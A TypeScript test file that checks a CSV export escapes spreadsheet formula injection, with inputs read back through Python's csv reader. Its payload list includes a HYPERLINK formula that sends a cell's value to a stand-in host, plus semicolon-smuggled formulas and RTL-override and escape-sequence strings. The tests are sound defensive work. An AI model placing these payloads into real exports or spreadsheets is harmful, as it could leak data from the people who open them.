import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { expect, test } from "vitest";
import { z } from "zod";
import { csvHeader, csvRow, type ExportedEntry } from "./index.ts";

const entry = (resource: string): ExportedEntry => ({
  index: 42,
  id: "rec_1",
  kind: "exchange.outcome",
  at: "2026-11-28T12:00:00.000Z",
  principal: "developer@example.com",
  resource,
});

// Read where it lies: the list is not ours.
const corpora = process.env["GATEHOUSE_CORPORA"] ?? join(import.meta.dirname, "../../../shared/corpora");
const list = join(corpora, "payloads", "csv", "formulas.txt");
const isListPresent = existsSync(list);
if (!isListPresent)
  process.stderr.write(`csv payloads: skipped, no list at ${list} (set GATEHOUSE_CORPORA)\n`);
const isPythonPresent = spawnSync("python3", ["-c", "import csv"]).status === 0;
if (!isPythonPresent) process.stderr.write("csv read by Python: skipped, there is no python3\n");

/** The cells as a reader that is not ours finds them. */
function readByPython(file: string, separator = ","): string[][] {
  const program = `import csv,io,json,sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline=''), delimiter=${JSON.stringify(separator)}))))`;
  const out = execFileSync("python3", ["-c", program], { input: file });
  return z.array(z.array(z.string())).parse(JSON.parse(out.toString("utf8")));
}

const resourceColumn = csvHeader.trimEnd().split(",").indexOf("resource");
/** What a spreadsheet, or one that trims first, takes for the beginning of a formula. */
const isFormula = (cell: string): boolean => /^[\s"]*[=+\-@\t\r\u2013\uFF1D]/.test(cell);

const ownPayloads = [
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  '"=1+1"',
  "\uFF1D1+1",
  "\u2013 2+3",
  '=HYPERLINK("https://example.com?"&A1,"x")',
  'a "quoted", one\r\nand another',
  "\u202Egro.elpmaxe",
  "a;=1+1",
  'a; "=1+1',
  'a";=1+1',
  "a|+1",
  "a\t@SUM(A1)",
  "a\r-1+1",
  ";=1",
  "a;'=1",
  "'=1",
];

test.runIf(isPythonPresent)("no cell is a formula where files are split at semicolons, tabs or bars", () => {
  const payloads = [...ownPayloads, ...(isListPresent ? readFileSync(list, "utf8").split("\n") : [])];
  const rows = payloads.flatMap((payload) => [csvRow(entry(`x;${payload}`)), csvRow(entry(payload))]);
  for (const separator of [";", "\t", "|"]) {
    for (const cell of readByPython(csvHeader + rows.join(""), separator).flat()) {
      expect(isFormula(cell), cell).toBe(false);
    }
  }
});

/** What docs/exports.md says of reading a cell back. */
function readBack(cell: string): string {
  return cell
    .replace(/(^|[;|])'(?=[\s"']*[=+\-@\u2010-\u2015\u2212\uFF0B\uFF0D\uFF1D\uFF20])/g, "$1")
    .replace(/\\u\{([0-9a-f]+)\}/g, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)));
}

test.runIf(isPythonPresent)("what was guarded and named is read back exactly", () => {
  const hostile = fc.string({ unit: fc.constantFrom(..."=+-@;|'\" \t\r\n\\u{}5c,a\u202E\uFF1D\u{E0001}") });
  const texts = [
    ...fc.sample(hostile, { numRuns: 500, seed: 5 }),
    ...ownPayloads,
    "\\u{41}",
    "\\\\u{5c}u{41}",
  ];
  const rows = readByPython(texts.map((text) => csvRow(entry(text))).join(""));
  expect(rows.map((row) => readBack(row[resourceColumn] ?? ""))).toEqual(texts);
});

test.runIf(isPythonPresent)("Python reads every cell of ours, and none is a formula", () => {
  const payloads = [...ownPayloads, ...(isListPresent ? readFileSync(list, "utf8").split("\n") : [])];
  const file = csvHeader + payloads.map((payload) => csvRow(entry(payload))).join("");
  const [header = [], ...rows] = readByPython(file);
  expect(rows).toHaveLength(payloads.length);
  for (const [row, payload] of rows.map((each, index) => [each, payloads[index] ?? ""] as const)) {
    expect(row).toHaveLength(header.length);
    expect([row[0], row.at(-1)]).toEqual(["42", "rec_1"]);
    expect(isFormula(row[resourceColumn] ?? ""), payload).toBe(false);
  }
});

test("what cannot be seen is named, and a line stays one line", () => {
  const row = csvRow(entry('b/\u202Eevil\u200B\u001B[31m\u0000 "quoted",\r\nnext'));
  expect(row).toContain('"b/\\u{202e}evil\\u{200b}\\u{1b}[31m\\u{0} ""quoted"",\\u{d}\\u{a}next"');
  expect(row.indexOf("\n")).toBe(row.length - 1);
});

test("what is no formula is left as it is", () => {
  expect(csvRow(entry("projects/p/zones/z"))).toContain(",projects/p/zones/z,");
});
